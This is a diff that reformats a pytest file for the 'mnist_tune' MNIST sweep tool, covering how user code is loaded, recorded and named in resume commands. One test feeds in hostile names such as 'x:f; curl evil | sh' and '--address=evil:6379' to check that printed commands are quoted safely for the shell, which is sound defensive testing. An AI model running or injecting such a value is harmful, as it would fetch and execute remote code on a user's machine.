@@ -16,7 +16,15 @@ from waiting import LONG_S
 from mnist_tune import TrialConfig, UserError
 from mnist_tune.errors import printable
 from mnist_tune.own_code import modules
-from mnist_tune.own_code.loading import check_again, load_own, names_in, own_code, refuse_unknown, register_own, sources
+from mnist_tune.own_code.loading import (
+    check_again,
+    load_own,
+    names_in,
+    own_code,
+    refuse_unknown,
+    register_own,
+    sources,
+)
 from mnist_tune.own_code.registry import ENTRIES, Entry, is_named_again, register
 from mnist_tune.results.journal import resume_command
 
@@ -34,7 +42,8 @@ size = 3
 
 @pytest.fixture(autouse=True)
 def folder(tmp_path, monkeypatch):
-    """A folder with a network, and a module beside it. What a test loads is forgotten."""
+    """A folder with a network, and a module beside it. What a test loads is
+    forgotten."""
     monkeypatch.setattr(sys, "path", list(sys.path))
     monkeypatch.chdir(tmp_path)
     for name in ("net", "layers"):  # those of other tests
@@ -48,7 +57,9 @@ def folder(tmp_path, monkeypatch):
 
 
 @pytest.mark.parametrize("taken", [False, True])
-def test_functions_of_one_file_share_its_module_wherever_they_are_named_from(folder, monkeypatch, taken):
+def test_functions_of_one_file_share_its_module_wherever_they_are_named_from(
+    folder, monkeypatch, taken
+):
     """Also if the module of another file has its name."""
     if taken:
         monkeypatch.setitem(sys.modules, "net", ModuleType("net"))
@@ -112,12 +123,18 @@ NAMED = """
 
 
 def test_what_is_loaded_recorded_and_refused(folder, monkeypatch):
-    """Each name is loaded alone. Kept are its refusal, or which files are recorded, their lines, and what is sent."""
+    """Each name is loaded alone. Kept are its refusal, or which files are recorded,
+    their lines, and what is sent."""
     for name, content in FILES.items():
         (folder / name).parent.mkdir(exist_ok=True)
-        (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())
+        (folder / name).write_bytes(
+            content if isinstance(content, bytes) else content.encode()
+        )
     lines, before = [], {*sys.modules}
-    for flag, name in [*(("architecture", name) for name in NAMED), ("optimizer", "../net.py:mlp")]:
+    for flag, name in [
+        *(("architecture", name) for name in NAMED),
+        ("optimizer", "../net.py:mlp"),
+    ]:
         if name.startswith(".."):
             monkeypatch.chdir(folder / "without")
         try:
@@ -127,8 +144,14 @@ def test_what_is_loaded_recorded_and_refused(folder, monkeypatch):
             lines.append(f"{name}: {error}".replace(f"--{flag} {name}: ", "--NAMED: "))
         else:
             texts, loads = own_code()
-            said = [*(f"{vars(place)}" for place in loads.values()), f"texts of {', '.join(sorted(texts))}"]
-            lines += [f"{name}: {'; '.join(said)}", *map(recorded_of, sources(names_in({flag: name})))]
+            said = [
+                *(f"{vars(place)}" for place in loads.values()),
+                f"texts of {', '.join(sorted(texts))}",
+            ]
+            lines += [
+                f"{name}: {'; '.join(said)}",
+                *map(recorded_of, sources(names_in({flag: name}))),
+            ]
         for entries in ENTRIES.values():
             entries.clear()
         modules.forget(set(sys.modules) - before)
@@ -136,8 +159,12 @@ def test_what_is_loaded_recorded_and_refused(folder, monkeypatch):
 
 
 def recorded_of(entry):
-    files = {file: len(one.get("lines", [])) for file, one in sorted(entry["files"].items())}
-    return f"    of {entry['flag']} {entry['name']} in {entry['folder']}, lines of {files}"
+    files = {
+        file: len(one.get("lines", [])) for file, one in sorted(entry["files"].items())
+    }
+    return (
+        f"    of {entry['flag']} {entry['name']} in {entry['folder']}, lines of {files}"
+    )
 
 
 CHANGES = {
@@ -156,7 +183,10 @@ CHANGES = {
 @pytest.mark.promise("A resume says in which line your code has changed")
 def test_what_a_resume_says_of_changed_code(folder, monkeypatch):
     load_own({"architecture": ["net.py:mlp"]})
-    recorded = printable(json.loads(json.dumps(sources({"architecture": ["net.py:mlp"]}))))  # as it is read
+    # as it is read
+    recorded = printable(
+        json.loads(json.dumps(sources({"architecture": ["net.py:mlp"]})))
+    )
     recorded[0]["files"]["no_longer_loaded.py"] = {"sha256": "0"}
     lines = []
 
@@ -180,12 +210,24 @@ def test_what_a_resume_says_of_changed_code(folder, monkeypatch):
 
 def test_what_a_resume_says_of_code_that_nobody_names(folder, monkeypatch):
     lines = []
-    entries = [{"flag": "architecture", "name": "net.py:mlp", "folder": str(folder), "files": {}}]
+    entries = [
+        {
+            "flag": "architecture",
+            "name": "net.py:mlp",
+            "folder": str(folder),
+            "files": {},
+        }
+    ]
     entries += [
         {"flag": "optimizer", "name": "my opt.py:adam", "folder": 3, "files": {}},
         {"flag": "data", "name": "x.py:f"},
     ]
-    for there, first in ((folder, 0), (folder.parent, 0), (folder.parent, 1), (folder.parent, 2)):
+    for there, first in (
+        (folder, 0),
+        (folder.parent, 0),
+        (folder.parent, 1),
+        (folder.parent, 2),
+    ):
         monkeypatch.chdir(there)
         with pytest.raises(UserError) as refused:
             check_again(entries[first:], "results/x", pytest.fail)
@@ -200,9 +242,19 @@ def test_what_a_resume_says_of_code_that_nobody_names(folder, monkeypatch):
         check_again(registered, "results/x", pytest.fail)
     lines.append(str(refused.value))
     for retry_errored in (False, True):
-        lines.append(resume_command({"name": "decide", "search": True, "code": registered}, "it's", retry_errored))
-    lines.append(resume_command({"name": "mine", "options": {"dataset": "arrays"}}, "x", True))
-    assert_kept("code that nobody names", "\n".join(lines).replace(str(folder), "HERE") + "\n")
+        lines.append(
+            resume_command(
+                {"name": "decide", "search": True, "code": registered},
+                "it's",
+                retry_errored,
+            )
+        )
+    lines.append(
+        resume_command({"name": "mine", "options": {"dataset": "arrays"}}, "x", True)
+    )
+    assert_kept(
+        "code that nobody names", "\n".join(lines).replace(str(folder), "HERE") + "\n"
+    )
 
 
 def test_code_is_named_again_without_arguments_also_where_its_file_has_moved(folder):
@@ -212,10 +264,19 @@ def test_code_is_named_again_without_arguments_also_where_its_file_has_moved(fol
     (folder / "other.py").write_text("def mlp(data):\n    pass\n")
     load_own({"architecture": ["moved/net.py:mlp", "other.py:mlp"]})
     known = ["net.py:mlp(width=8)", "mlp-4-tanh", "package.nets:mlp"]
-    for name, again in {"net.py:mlp": True, "mlp-4-tanh": True, "mlp-8-tanh": False, "other.py:mlp": False}.items():
+    for name, again in {
+        "net.py:mlp": True,
+        "mlp-4-tanh": True,
+        "mlp-8-tanh": False,
+        "other.py:mlp": False,
+    }.items():
         assert is_named_again("architecture", [name], known) == again
-    assert not is_named_again("architecture", ["moved/net.py:mlp"], ["a/net.py:mlp", "b/net.py:mlp"]), "which one?"
-    assert not is_named_again("architecture", ["evil/net.py:mlp"], known), "nobody has loaded it"
+    assert not is_named_again(
+        "architecture", ["moved/net.py:mlp"], ["a/net.py:mlp", "b/net.py:mlp"]
+    ), "which one?"
+    assert not is_named_again("architecture", ["evil/net.py:mlp"], known), (
+        "nobody has loaded it"
+    )
     recorded = [{"flag": "architecture", "name": "net.py:mlp", "files": {}}]
     with pytest.raises(UserError, match="name it again"):
         check_again(recorded, "results/x", pytest.fail)
@@ -225,30 +286,52 @@ def test_code_is_named_again_without_arguments_also_where_its_file_has_moved(fol
     assert ("architecture", "net.py:mlp") in own_code()[1]
 
 
-@pytest.mark.promise("Printed commands are words for the shell, and name no code that only the folder names")
+@pytest.mark.promise(
+    "Printed commands are words for the shell, and name no code that only the folder names"
+)
 @pytest.mark.promise("A resume takes no code from a folder, and says what to name")
 def test_a_resume_without_the_code_says_what_to_name(folder):
     load_own({"architecture": ["net.py:mlp"]})
     recorded = sources({"architecture": ["net.py:mlp"]})
     ENTRIES["architecture"].pop("net.py:mlp")
     with pytest.raises(
-        UserError, match=r"name it again: mnist-tune resume results/x --architecture net\.py:mlp, or register it"
+        UserError,
+        match=r"name it again: mnist-tune resume results/x --architecture net\.py:mlp, or register it",
     ):
         check_again(recorded, "results/x", print)
-    meta = {"name": "lr_regimes", "code": [*recorded, {"flag": "optimizer", "name": "my opt.py:adam", "files": {}}]}
-    assert resume_command(meta, "results/x") == "mnist-tune resume results/x", "nobody has named it here"
-    ENTRIES["architecture"]["net.py:mlp"] = ENTRIES["optimizer"]["my opt.py:adam"] = Entry(lambda: len)
+    meta = {
+        "name": "lr_regimes",
+        "code": [
+            *recorded,
+            {"flag": "optimizer", "name": "my opt.py:adam", "files": {}},
+        ],
+    }
+    assert resume_command(meta, "results/x") == "mnist-tune resume results/x", (
+        "nobody has named it here"
+    )
+    ENTRIES["architecture"]["net.py:mlp"] = ENTRIES["optimizer"]["my opt.py:adam"] = (
+        Entry(lambda: len)
+    )
     command = resume_command(meta, "results/x")
-    assert command == "mnist-tune resume results/x --architecture net.py:mlp --optimizer 'my opt.py:adam'"
+    assert (
+        command
+        == "mnist-tune resume results/x --architecture net.py:mlp --optimizer 'my opt.py:adam'"
+    )
 
 
-@pytest.mark.promise("Printed commands are words for the shell, and name no code that only the folder names")
-@pytest.mark.parametrize("name", ["x:f; curl evil | sh", "--address=evil:6379", "it's:f", "`x`:f"])
+@pytest.mark.promise(
+    "Printed commands are words for the shell, and name no code that only the folder names"
+)
+@pytest.mark.parametrize(
+    "name", ["x:f; curl evil | sh", "--address=evil:6379", "it's:f", "`x`:f"]
+)
 def test_the_name_of_recorded_code_is_a_word_for_the_shell(folder, name):
     recorded = [{"flag": "architecture", "name": name, "files": {}}]
     with pytest.raises(UserError) as caught:
         check_again(recorded, "results/x y", print)
-    given = str(caught.value).partition("name it again: ")[2].partition(", or register")[0]
+    given = (
+        str(caught.value).partition("name it again: ")[2].partition(", or register")[0]
+    )
     words = [
         "mnist-tune",
         "resume",
@@ -258,16 +341,27 @@ def test_the_name_of_recorded_code_is_a_word_for_the_shell(folder, name):
     assert shlex.split(given) == words
 
 
-@pytest.mark.promise("The next sweep of a session trains what was edited since, and records it")
+@pytest.mark.promise(
+    "The next sweep of a session trains what was edited since, and records it"
+)
 def test_what_is_changed_in_a_session_is_loaded_recorded_and_sent(folder):
-    """The file itself, and a module beside it, of as many bytes and within the second of the former."""
+    """The file itself, and a module beside it, of as many bytes and within the second
+    of the former."""
 
     def seen():
         load_own({"architecture": ["net.py:mlp"]})
         register_own(pickle.loads(pickle.dumps(own_code())))
         [entry] = sources({"architecture": ["net.py:mlp"]})
-        width = inspect.signature(ENTRIES["architecture"]["net.py:mlp"].factory).parameters["width"].default
-        return width, entry["files"]["layers.py"]["lines"], entry["files"]["net.py"]["lines"][-1]
+        width = (
+            inspect.signature(ENTRIES["architecture"]["net.py:mlp"].factory)
+            .parameters["width"]
+            .default
+        )
+        return (
+            width,
+            entry["files"]["layers.py"]["lines"],
+            entry["files"]["net.py"]["lines"][-1],
+        )
 
     assert seen() == (64, ["WIDTH = 64"], "size = 3")
     before = ENTRIES["architecture"]["net.py:mlp"].factory
@@ -275,7 +369,9 @@ def test_what_is_changed_in_a_session_is_loaded_recorded_and_sent(folder):
     assert ENTRIES["architecture"]["net.py:mlp"].factory is before
     (folder / "layers.py").write_text("WIDTH = 32\n")
     assert seen() == (32, ["WIDTH = 32"], "size = 3")
-    (folder / "net.py").write_text(NET.replace("size = 3", "size = 4").replace("=WIDTH", "=WIDTH + 1"))
+    (folder / "net.py").write_text(
+        NET.replace("size = 3", "size = 4").replace("=WIDTH", "=WIDTH + 1")
+    )
     assert seen() == (33, ["WIDTH = 32"], "size = 4")
 
 
@@ -291,11 +387,16 @@ def test_a_function_registered_from_a_module_is_as_its_file_says(folder):
     [entry] = sources({"architecture": ["mine"]})
     assert entry["files"]["net.py"]["lines"][-1] == "size = 4"
     (folder / "net.py").write_text("x = undefined\n")
-    with pytest.raises(UserError, match=r"--architecture mine: mine can't be loaded, NameError: name 'undefined'"):
+    with pytest.raises(
+        UserError,
+        match=r"--architecture mine: mine can't be loaded, NameError: name 'undefined'",
+    ):
         load_own({"architecture": "mine"})
 
 
-def test_a_function_of_the_session_that_uses_an_edited_module_is_sent_with_its_new_text(folder):
+def test_a_function_of_the_session_that_uses_an_edited_module_is_sent_with_its_new_text(
+    folder,
+):
     sys.path.insert(0, str(folder))
     layers = importlib.import_module("layers")
     use = eval("lambda data: layers.WIDTH", {"layers": layers, "__name__": "__main__"})
@@ -305,12 +406,18 @@ def test_a_function_of_the_session_that_uses_an_edited_module_is_sent_with_its_n
     load_own({"architecture": "mine"})
     assert own_code()[1]["architecture", "mine"]()(None) == 32
     register("mine")(lambda data, once=(i for i in "ab"): once)
-    with pytest.raises(UserError, match=r"^architecture 'mine' can't be sent to other processes, .* 'generator'"):
+    with pytest.raises(
+        UserError,
+        match=r"^architecture 'mine' can't be sent to other processes, .* 'generator'",
+    ):
         own_code()[1]["architecture", "mine"]()  # other code can be sent
 
 
-def test_a_sweep_after_a_file_was_edited_sends_the_new_text_though_only_the_other_file_is_named(folder):
-    """What is named no more is neither loaded nor sent, and a resume in the same session still finds it."""
+def test_a_sweep_after_a_file_was_edited_sends_the_new_text_though_only_the_other_file_is_named(
+    folder,
+):
+    """What is named no more is neither loaded nor sent, and a resume in the same
+    session still finds it."""
     (folder / "opt.py").write_text("def sgd(learning_rate):\n    return 1\n")
     load_own({"architecture": "net.py:mlp", "optimizer": "opt.py:sgd"})
     recorded, said = sources({"optimizer": ["opt.py:sgd"]}), []
@@ -318,15 +425,23 @@ def test_a_sweep_after_a_file_was_edited_sends_the_new_text_though_only_the_othe
     load_own({"architecture": "net.py:mlp"})
     assert list(own_code()[1]) == [("architecture", "net.py:mlp")]
     check_again(recorded, "results/x", said.append)
-    assert said == ["note: opt.py has changed since the sweep started, first in line 2: return 2"]
+    assert said == [
+        "note: opt.py has changed since the sweep started, first in line 2: return 2"
+    ]
     assert own_code()[1]["optimizer", "opt.py:sgd"]()(0.1) == 2
 
 
-@pytest.mark.promise("A network and an optimiser that import the same module share its classes")
-def test_a_network_and_an_optimizer_share_the_classes_of_a_module_here_and_elsewhere(folder):
+@pytest.mark.promise(
+    "A network and an optimiser that import the same module share its classes"
+)
+def test_a_network_and_an_optimizer_share_the_classes_of_a_module_here_and_elsewhere(
+    folder,
+):
     (folder / "common.py").write_text("class Rate:\n    pass\n")
     for name in ("net", "opt"):
-        (folder / f"{name}.py").write_text("import common\n\n\ndef f(data):\n    return common.Rate\n")
+        (folder / f"{name}.py").write_text(
+            "import common\n\n\ndef f(data):\n    return common.Rate\n"
+        )
     load_own({"architecture": "net.py:f", "optimizer": "opt.py:f"})
     assert len({load()(0) for load in own_code()[1].values()}) == 1
     script = f"""
@@ -336,5 +451,11 @@ from mnist_tune.own_code import loading, registry
 loading.register_own(pickle.loads({pickle.dumps(own_code())!r}))
 print(len({{one.factory(0) for known in registry.ENTRIES.values() for one in known.values()}}))
 """
-    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd="/", timeout=LONG_S)
+    done = subprocess.run(
+        [sys.executable, "-c", script],
+        capture_output=True,
+        text=True,
+        cwd="/",
+        timeout=LONG_S,
+    )
     assert done.stdout == "1\n", done.stderr
